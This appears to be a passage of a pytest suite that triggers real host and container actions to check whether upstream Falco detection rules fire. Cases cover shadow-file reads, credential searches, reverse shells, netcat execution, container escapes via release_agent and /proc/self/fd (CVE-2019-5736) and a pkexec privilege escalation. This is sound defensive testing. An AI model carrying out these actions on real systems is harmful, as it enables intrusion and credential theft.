    """Write a file below /var/lib/rpm (the directory is created for the test if missing)."""
    rpmdb = Path("/var/lib/rpm")
    if not rpmdb.exists():
        need(os.access("/var/lib", os.W_OK), "/var/lib not writable")
        rpmdb.mkdir()
        c.cleanup.append(rpmdb)  # removed after the file (cleanup runs in order)
    target = _temp_below(str(rpmdb), c)
    c.cleanup.insert(0, c.cleanup.pop())
    return Action(["cp", "/dev/null", str(target)], {"fd.name": str(target), "proc.name": "cp"})


def write_through_proc_self_fd(c: Ctx) -> Action:
    """Reopen an fd for writing through /proc/self/fd/N (CVE-2019-5736's way to runc's binary)."""
    target = c.work / "entrypoint"
    target.write_text("#!/bin/sh\n")
    return Action(["sh", "-c", 'exec 3<"$0"; echo pwned > /proc/self/fd/3', str(target)],
                  {"fd.name": "/proc/self/fd/3", "proc.name": "sh"})


# --------------------------------------------------------------------------- cases


def enable(rule: str) -> tuple[str, ...]:
    """-o value turning on a rule that is disabled in its file (falco.yaml's rules: enable)."""
    return (f'rules[]={{enable: {{rule: "{rule}"}}}}',)


@dataclass(frozen=True)
class Case:
    """rule (in ``file``) should fire for ``build``'s action ``where``: any, container or host;
    "never" pins a rule pdigpy cannot fire (docs/upstream-compat.md says why)."""

    rule: str
    build: Callable[[Ctx], Action]
    where: str = "any"
    file: str = STABLE
    options: tuple[str, ...] = ()  # extra -o KEY=VALUE

    @property
    def id(self) -> str:
        return f"{self.rule} [{self.build.__name__}]"


CASES = [
    # falco_rules.yaml (stable)
    Case("Read sensitive file untrusted", read_shadow),
    Case("Read sensitive file trusted after startup", server_reads_shadow_after_startup),
    Case("Directory traversal monitored file read", traversal_read),
    Case("Run shell untrusted", web_server_spawns_shell),
    Case("System user interactive", system_user_login),
    Case("Terminal shell in container", terminal_shell, "container"),
    Case("Contact K8S API Server From Container", contact_k8s_api, "container"),
    Case("Netcat Remote Code Execution in Container", netcat_exec, "container"),
    Case("Search Private Keys or Passwords", find_private_keys),
    Case("Search Private Keys or Passwords", grep_private_keys),
    Case("Clear Log Activities", truncate_log),
    Case("Remove Bulk Data from Disk", shred_file),
    Case("Create Symlink Over Sensitive Files", symlink_shadow),
    Case("Create Hardlink Over Sensitive Files", hardlink_shadow),
    Case("Packet socket created in container", packet_socket, "container"),
    Case("Redirect STDOUT/STDIN to Network Connection in Container", redirect_stdout_to_socket, "container"),
    Case("Linux Kernel Module Injection Detected", init_module_garbage, "container"),
    Case("Linux Kernel Module Injection Detected", finit_module_garbage, "container"),
    Case("Detect release_agent File Container Escapes", write_release_agent, "container"),
    Case("PTRACE attached to process", ptrace_attach),
    Case("PTRACE anti-debug attempt", ptrace_traceme),
    Case("Find AWS Credentials", find_aws_credentials),
    Case("Execution from /dev/shm", exec_from_dev_shm),
    Case("Disallowed SSH Connection Non Standard Port", ssh_non_standard_port),
    Case("Fileless execution via memfd_create", memfd_exec),
    Case("Fileless execution via memfd_create", memfd_exec_by_proc_path),
    # Cannot fire: ECS reports no privileged containers (Fargate never runs one).
    Case("Debugfs Launched in Privileged Container", debugfs_version, "never"),
    # Cannot fire: pdigpy has no overlayfs upper-layer information (proc.is_exe_upper_layer).
    Case("Drop and execute new binary in container", exec_dropped_binary, "never"),
    # falco-incubating_rules.yaml
    Case("Launch Suspicious Network Tool on Host", netcat_scan, "host", INCUBATING),
    Case("Launch Suspicious Network Tool in Container", netcat_scan, "container", INCUBATING),
    Case("Set Setuid or Setgid bit", chmod_setuid, "any", INCUBATING),
    Case("Potential Local Privilege Escalation via Environment Variables Misuse", glibc_tunables, "any", INCUBATING),
    Case("Read environment variable from /proc files", read_proc_environ, "container", INCUBATING),
    Case("Launch Package Management Process in Container", package_manager, "container", INCUBATING),
    Case("Schedule Cron Jobs", crontab, "any", INCUBATING),
    # nsenter on the host is excluded by the rule (container.id=host and proc.name=nsenter)
    Case("Change thread namespace", nsenter_own_netns, "container", INCUBATING),
    # Two rules earlier in the file match these too ("System procs network activity" takes a
    # shell's connections; the EC2 rule precedes the generic cloud one): see every match.
    Case("Contact EC2 Instance Metadata Service From Container", instance_metadata_tcp, "container", INCUBATING,
         ("rule_matching=all",)),
    Case("Contact cloud metadata service from container", instance_metadata_udp_sendto, "container", INCUBATING,
         ("rule_matching=all",)),
    Case("Modify Shell Configuration File", write_shell_config, "any", INCUBATING),
    Case("Read ssh information", read_ssh_known_hosts, "any", INCUBATING),
    Case("Non sudo setuid", setuid_root_as_nobody, "any", INCUBATING),
    Case("Change namespace privileges via unshare", unshare_user_ns_unprivileged, "container", INCUBATING),
    Case("BPF Program Not Profiled", bpf_prog_load, "any", INCUBATING),
    Case("Program run with disallowed http proxy env", curl_with_proxy_env, "any", INCUBATING),
    Case("User mgmt binaries", useradd_stand_in, "host", INCUBATING),
    Case("DB program spawned process", db_server_spawns_shell, "any", INCUBATING),
    Case("Exfiltrating Artifacts via Kubernetes Control Plane", tar_from_runtime, "container", INCUBATING),
    Case("Backdoored library loaded into SSHD (CVE-2024-3094)", sshd_loads_backdoored_liblzma, "any", INCUBATING),
    Case("Delete or rename shell history", delete_shell_history, "any", INCUBATING),
    Case("Launch Remote File Copy Tools in Container", scp_stand_in, "container", INCUBATING),
    Case("Launch Ingress Remote File Copy Tools in Container", curl_download, "container", INCUBATING),
    # a shell's connection: "System procs network activity" (earlier in the file) matches too
    Case("Unexpected UDP Traffic", udp_connect, "any", INCUBATING, ("rule_matching=all",)),
    Case("System procs network activity", instance_metadata_tcp, "any", INCUBATING),
    Case("Create files below dev", create_file_below_dev, "any", INCUBATING),
    Case("Adding ssh keys to authorized_keys", add_authorized_key, "any", INCUBATING),
    # Cannot fire: container_started needs proc.vpid=1, and pdigpy (the ENTRYPOINT) is PID 1 itself.
    Case("Launch Excessively Capable Container", entrypoint_with_all_caps, "never", INCUBATING),
    # falco-sandbox_rules.yaml
    Case("Network Tool Executed During NPM Package Install", npm_install_runs_nc, "container", SANDBOX),
    Case("Web Server Spawned Suspicious Child Process", web_server_runs_whoami, "any", SANDBOX),
    Case("Sudo Potential Privilege Escalation", sudoedit_backslash, "any", SANDBOX),
    Case("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", pkexec_no_args, "any", SANDBOX),
    Case("Update Package Repository", write_apt_source, "any", SANDBOX),
    Case("Write below monitored dir", write_below_usr_local_bin, "any", SANDBOX),
    Case("Write below etc", write_below_etc, "any", SANDBOX),
    Case("Write below binary dir", write_below_bin, "any", SANDBOX),
    Case("Mkdir binary dirs", mkdir_below_bin, "any", SANDBOX),
    Case("Modify binary dirs", remove_from_bin, "any", SANDBOX),
    Case("Write below root", write_below_root, "any", SANDBOX),
    Case("Basic Interactive Reconnaissance", interactive_whoami, "any", SANDBOX),
    Case("Detect crypto miners using the Stratum protocol", stratum_miner, "any", SANDBOX),
    Case("Known Cryptominer Process Executed", xmrig, "any", SANDBOX),
    Case("Decoding Payload in Container", base64_decode, "container", SANDBOX),
    Case("Kubernetes Client Tool Launched in Container", kubectl_stand_in, "container", SANDBOX),
    Case("Netcat/Socat Remote Code Execution on Host", netcat_exec, "host", SANDBOX),
    Case("Web Server Spawned Shell", web_server_spawns_shell, "any", SANDBOX),
    Case("Reverse Shell from Web Server", web_server_reverse_shell, "any", SANDBOX, ("rule_matching=all",)),
    Case("Privileged Container Device Access", read_disk_device, "container", SANDBOX),
    Case("Container Access to Host Sensitive Paths", read_host_path, "container", SANDBOX),
    Case("Write below rpm database", write_rpm_database, "any", SANDBOX),
    Case("Unprivileged Delegation of Page Faults Handling to a Userspace Process", unprivileged_userfaultfd,
         "any", SANDBOX),
    # falco-sandbox_rules.yaml, disabled upstream: enabled with -o rules[]=...
    Case("Create Hidden Files or Directories", mkdir_hidden, "any", SANDBOX,
         enable("Create Hidden Files or Directories")),
    Case("Container Drift Detected (chmod)", chmod_executable, "container", SANDBOX,
         enable("Container Drift Detected (chmod)")),
    Case("Container Drift Detected (open+create)", create_executable, "container", SANDBOX,
         enable("Container Drift Detected (open+create)")),
    Case("Java Process Class File Download", java_downloads_class, "any", SANDBOX,
         enable("Java Process Class File Download")),
    Case("Read Shell Configuration File", read_shell_config, "any", SANDBOX,
         enable("Read Shell Configuration File")),
    Case("Interpreted procs outbound network activity", python_connects_out, "any", SANDBOX,
         enable("Interpreted procs outbound network activity")),
    Case("Interpreted procs inbound network activity", python_accepts_in, "any", SANDBOX,
         enable("Interpreted procs inbound network activity")),
    Case("Unexpected inbound connection source", python_accepts_in, "any", SANDBOX,
         enable("Unexpected inbound connection source")),
    Case("Modify Container Entrypoint", write_through_proc_self_fd, "container", SANDBOX,
         enable("Modify Container Entrypoint")),
    Case("Unexpected K8s NodePort Connection", connect_nodeport, "container", SANDBOX,
         enable("Unexpected K8s NodePort Connection")),
    Case("Detect outbound connections to common miner pool ports", connect_miner_pool, "any", SANDBOX,
         enable("Detect outbound connections to common miner pool ports")),
]


@pytest.mark.parametrize("where", ["host", "container"])
@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_upstream_rule_on_live_action(case: Case, where: str, ctx: Ctx, ecs_endpoint: str):
    action = case.build(ctx)
    run = run_upstream(action, ctx.work, case.file, ecs_endpoint if where == "container" else None,
                       options=case.options)
    assert "Traceback" not in run.stderr, run.describe()
    assert run.returncode not in (2, 97, 98), "pdigpy or the test wrapper failed:\n" + run.describe()
    fired = run.fired(case.rule)
    should_fire = case.where in ("any", where)
    if not should_fire:
        assert not fired, f"{case.rule!r} fired {where} but is gated to {case.where}:\n" + run.describe()
        return
    assert fired, f"{case.rule!r} did not fire {where}:\n" + run.describe()
    alert = fired[0]
    expect = dict(action.expect)
    if where == "container":
        expect.update({"container.id": CONTAINER_ID, "container.name": CONTAINER_NAME})
    else:
        expect.update({"container.id": "host", "container.name": "host"})
    problems = check_fields(alert, expect)
    assert not problems, f"{case.rule!r}: wrong output fields: {problems}\n" + run.describe()


_IMAGE_PROBE = """
- rule: probe container image
  desc: Shows the image pdigpy took from the ECS metadata, for the event the upstream rule saw.
  condition: evt.type in (execve, execveat, connect) and container.image.repository exists
  output: image=%container.image.repository
  priority: DEBUG
"""


@pytest.mark.parametrize(("rule", "build", "image", "repository"), [
    # k8s_containers: the rule's own allow-list of images that may talk to the API server
    ("Contact K8S API Server From Container", contact_k8s_api, "docker.io/falcosecurity/falco:0.41.3",
     "docker.io/falcosecurity/falco"),
    # falco_privileged_images may run binaries from /dev/shm
    ("Execution from /dev/shm", exec_from_dev_shm, "docker.io/calico/node:v3.28.0", "docker.io/calico/node"),
], ids=["k8s_containers", "falco_privileged_images"])
def test_image_allow_list_from_container_metadata_silences_rule(rule, build, image, repository, ctx: Ctx):
    """container.image.repository comes from the ECS metadata, so the upstream allow-lists work:
    the action that fires in an ordinary container (test above) is silent in an allow-listed image."""
    from ecs_metadata import MetadataServer

    probe = ctx.work / "probe.yaml"
    probe.write_text(_IMAGE_PROBE)
    server = MetadataServer(image=image)
    try:
        run = run_upstream(build(ctx), ctx.work, STABLE, server.uri,
                           options=("rule_matching=all",), extra_rules=(probe,))
    finally:
        server.close()
    images = {a["output_fields"].get("container.image.repository") for a in run.fired("probe container image")}
    assert images == {repository}, "the probe saw other images:\n" + run.describe()
    assert not run.fired(rule), f"{rule!r} fired in allow-listed image {image}:\n" + run.describe()


def test_cases_cover_enough_upstream_rules():
    firing = {c.rule for c in CASES if c.where != "never"}
    assert len(firing) >= 12
    assert len({c.rule for c in CASES if c.file == STABLE and c.where != "never"}) >= 12


# --------------------------------------------------------------------------- known bugs


def _closed_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_refused_connect_evaluates_upstream_outbound_rules_cleanly(ctx: Ctx):
    action = Action([BASH, "-c", f"exec 3<>/dev/tcp/127.0.0.1/{_closed_port()}; true"])
    run = run_upstream(action, ctx.work, STABLE)
    assert "Connection refused" in run.stderr  # the app's own message: the connect happened
    assert "failed on event" not in run.stderr, run.describe()


_DIAG_RULES = """
- rule: diag fd.ip differs from 0.0.0.0
  desc: Falco compares a socket without addresses as 0.0.0.0, so this is false after a refused connect.
  condition: evt.type = connect and fd.ip != "0.0.0.0"
  output: fd.name=%fd.name res=%evt.res
  priority: INFO
"""


def test_refused_connect_fd_ip_is_not_different_from_zero(ctx: Ctx):
    rules = ctx.work / "diag.yaml"
    rules.write_text(_DIAG_RULES)
    action = Action([BASH, "-c", f"exec 3<>/dev/tcp/127.0.0.1/{_closed_port()}; true"])
    run = run_upstream(action, ctx.work, str(rules))
    assert "Connection refused" in run.stderr
    assert not run.fired("diag fd.ip differs from 0.0.0.0"), run.describe()


def test_container_metadata_is_read_even_with_an_http_proxy_in_the_environment(ctx: Ctx, ecs_endpoint: str):
    action = netcat_exec(ctx)
    dead_proxy = f"http://127.0.0.1:{_closed_port()}"
    action.env = {"HTTP_PROXY": dead_proxy, "http_proxy": dead_proxy}
    run = run_upstream(action, ctx.work, STABLE, ecs_endpoint)
    assert "cannot read" not in run.stderr, run.describe()
    fired = run.fired("Netcat Remote Code Execution in Container")
    assert fired and fired[0]["output_fields"]["container.id"] == CONTAINER_ID, run.describe()
